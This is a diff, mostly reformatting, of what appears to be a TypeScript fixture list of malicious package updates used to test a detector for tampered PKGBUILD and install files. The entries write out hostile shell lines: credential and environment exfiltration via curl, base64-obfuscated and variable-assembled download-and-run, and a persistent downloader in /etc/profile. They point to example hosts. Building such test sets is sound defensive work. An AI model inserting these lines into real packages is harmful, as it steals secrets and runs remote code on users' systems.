@@ -74,7 +74,13 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     pkg: 'python-tomlkit-ng',
     apply: (f) => ({
       candidate: edit(bumpVersion(f), {
-        PKGBUILD: [inFunction('check', 'cat ~/.aws/credentials >> "$srcdir/test.log" 2>/dev/null', 'curl -s -F "log=@$srcdir/test.log" https://ci-logs.example.org/upload')],
+        PKGBUILD: [
+          inFunction(
+            'check',
+            'cat ~/.aws/credentials >> "$srcdir/test.log" 2>/dev/null',
+            'curl -s -F "log=@$srcdir/test.log" https://ci-logs.example.org/upload',
+          ),
+        ],
       }),
     }),
     expect: ['exfiltration'],
@@ -83,7 +89,9 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     name: 'command name assembled from variables, piped into ${SHELL:-sh}',
     pkg: 'gostat',
     apply: (f) => ({
-      candidate: edit(bumpVersion(f), { PKGBUILD: [inFunction('prepare', 'local _f=cu _g=rl', '$_f$_g -fsSL https://gostat-mirror.example/i | "${SHELL:-sh}"')] }),
+      candidate: edit(bumpVersion(f), {
+        PKGBUILD: [inFunction('prepare', 'local _f=cu _g=rl', '$_f$_g -fsSL https://gostat-mirror.example/i | "${SHELL:-sh}"')],
+      }),
     }),
     expect: ['assembled-command', 'download-and-run'],
   },
@@ -91,7 +99,9 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     name: 'eval of a base64-decoded download-and-run',
     pkg: 'jsonpretty',
     apply: (f) => ({
-      candidate: edit(bumpVersion(f), { PKGBUILD: [inFunction('package', 'eval "$(echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d)"')] }),
+      candidate: edit(bumpVersion(f), {
+        PKGBUILD: [inFunction('package', 'eval "$(echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d)"')],
+      }),
     }),
     expect: ['assembled-command', 'obfuscation'],
   },
@@ -115,7 +125,12 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     pkg: 'otf-handwrite',
     apply: (f) => ({
       candidate: edit(bumpVersion(f), {
-        'otf-handwrite.install': [['  fc-cache -s >/dev/null\n  mkfontscale', '  fc-cache -s >/dev/null\n  curl -fsSL https://fonts-cdn.example/update.sh -o /tmp/.fu && sh /tmp/.fu\n  mkfontscale']],
+        'otf-handwrite.install': [
+          [
+            '  fc-cache -s >/dev/null\n  mkfontscale',
+            '  fc-cache -s >/dev/null\n  curl -fsSL https://fonts-cdn.example/update.sh -o /tmp/.fu && sh /tmp/.fu\n  mkfontscale',
+          ],
+        ],
       }),
     }),
     expect: ['network-fetch', 'download-and-run'],
@@ -153,7 +168,7 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     expect: ['checksums'],
   },
   {
-    name: 'package() appends a downloader to the build machine\'s /etc/profile',
+    name: "package() appends a downloader to the build machine's /etc/profile",
     pkg: 'zsh-theme-spaceline',
     apply: (f) => ({
       candidate: edit(bumpVersion(f), { PKGBUILD: [inFunction('package', "echo 'curl -s https://spaceline.example/p | sh &' >> /etc/profile")] }),
@@ -177,7 +192,11 @@ export const MALICIOUS_UPDATES: MaliciousUpdate[] = [
     name: 'the environment (CI tokens) posted from prepare()',
     pkg: 'gnome-shell-extension-clipline',
     apply: (f) => ({
-      candidate: edit(bumpVersion(f), { PKGBUILD: [['build() {\n', 'prepare() {\n  env | curl -s --data-binary @- https://telemetry.clipline.example/e >/dev/null\n}\n\nbuild() {\n']] }),
+      candidate: edit(bumpVersion(f), {
+        PKGBUILD: [
+          ['build() {\n', 'prepare() {\n  env | curl -s --data-binary @- https://telemetry.clipline.example/e >/dev/null\n}\n\nbuild() {\n'],
+        ],
+      }),
     }),
     expect: ['exfiltration'],
   },
